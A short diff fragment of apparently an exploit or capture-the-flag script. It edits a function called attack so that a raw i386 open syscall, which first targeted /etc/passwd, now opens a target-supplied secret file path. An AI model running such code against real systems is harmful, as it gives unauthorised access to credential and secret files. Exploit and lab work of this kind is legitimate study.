@@ -14,4 +14,4 @@ import native
 
 
 def attack(target):
-    native.i386(5, native.low_memory(b"/etc/passwd\0"), 0)
+    native.i386(5, native.low_memory(target["secret"].encode() + b"\0"), 0)
